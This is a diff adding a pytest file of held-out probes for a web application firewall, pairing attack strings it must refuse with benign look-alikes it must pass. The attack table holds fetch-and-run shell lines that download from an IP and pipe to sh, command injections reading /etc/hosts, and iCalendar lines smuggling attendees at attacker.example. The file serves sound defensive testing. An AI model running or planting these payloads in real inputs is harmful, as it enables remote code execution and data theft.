@@ -1,0 +1,89 @@
+"""WAF, part 2z2: held-out probes, twenty-fifth file (README: the
+thirty-second round), written for this file on 2026-12-05 after the
+social and construction corpora (tests/corpus/social/,
+tests/corpus/construction/) were first replayed, for the classes they
+and earlier corpora showed. No string is taken from a corpus or a
+public list: each class is written here in shapes of our own, through
+the real edge (shipped config, bans off).
+
+Look-alikes that must pass:
+- caps-abbreviation: an abbreviation in capitals after a separator
+  ("ID", "IRB"), alone at the end or followed by words;
+- fetch-run: a code span that downloads a file without running it, an
+  install line that names its host;
+- ical-guest: a calendar pasted whole, the word attendee in a sentence.
+
+Attacks that must be refused:
+- caps-abbreviation: a command in capitals given an option or a path,
+  or a case-blind system's command;
+- fetch-run: a code span after text that fetches from an address and
+  runs what it fetched (with "&&", ";" or a pipe to a shell);
+- ical-guest: an iCalendar attendee or organizer with a mailto: on the
+  line after a first line that is no field.
+
+Measured before the changes (2026-12-05, on 6cc85d4): the 4 fetch-run
+and ical-guest attacks passed (the caps-abbreviation attacks bound the
+change) and 2 of the 7 look-alikes were refused (the abbreviations
+after "&" and ";"). After them: every attack refused, every look-alike
+passes.
+
+Each attack is sent as a query value (URL-encoded once, and once more:
+the edge decodes repeatedly) and as a JSON body field; each look-alike
+must pass in the same placements. A probe the edge gets wrong is listed
+in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
+strict xfail."""
+
+import pytest
+
+from wafkit import (WafEdge, assert_passes_everywhere,  # noqa: F401
+                    assert_refused_everywhere, assert_tables_balanced,
+                    probe_cases, probe_placements, session, waf_config)
+
+CONF = waf_config()
+
+ATTACKS = {
+    "caps-abbreviation": ["x; CAT /etc/hosts", "x & WHOAMI", "q; UNAME -A"],
+    "fetch-run": ["Gate shift swapped `wget -qO /tmp/g http://198.51.100.30/g && sh /tmp/g`",
+                  "cake day `curl -so /tmp/k http://10.9.8.7/k; sh /tmp/k`"],
+    "ical-guest": ["Quiz night 🎲\r\nATTENDEE;RSVP=TRUE:mailto:guests@attacker.example",
+                   "Sprint demo\nORGANIZER;CN=Ops:mailto:ops@attacker.example"],
+}
+
+BENIGN = {
+    "caps-abbreviation": ["Badge pickup: bring a photo & ID", "Status; IRB review next week",
+                          "Skills: SQL; CAD drafting"],
+    "fetch-run": ["see `wget http://10.9.8.7/disk.iso` for the image",
+                  "Install with `curl -fsSL https://get.tool.example/i.sh -o i.sh` first"],
+    "ical-guest": ["BEGIN:VEVENT\nATTENDEE;CN=Kim:mailto:kim@example.org\nEND:VEVENT",
+                   "Quiz night\nattendee list closes Friday"],
+}
+
+KNOWN_MISSES = {}
+KNOWN_FALSE_POSITIVES = {}
+
+ATTACK_CASES = probe_cases(ATTACKS, KNOWN_MISSES)
+BENIGN_CASES = probe_cases(BENIGN, KNOWN_FALSE_POSITIVES)
+
+
+@pytest.fixture(scope="module")
+def edge(tmp_path_factory):
+    e = WafEdge(tmp_path_factory.mktemp("waf-heldout-r25"), CONF).start()
+    yield e
+    e.stop()
+
+
+def test_tables_are_balanced():
+    # every class has attacks and look-alikes, and none is both
+    assert_tables_balanced(ATTACKS, BENIGN)
+
+
+@pytest.mark.parametrize("cls,value", ATTACK_CASES)
+def test_heldout_r25_attack_refused_everywhere(edge, session, cls, value):
+    got = probe_placements(session, edge, value)
+    assert_refused_everywhere(got, cls, value)
+
+
+@pytest.mark.parametrize("cls,value", BENIGN_CASES)
+def test_heldout_r25_benign_passes(edge, session, cls, value):
+    got = probe_placements(session, edge, value)
+    assert_passes_everywhere(got, cls, value)
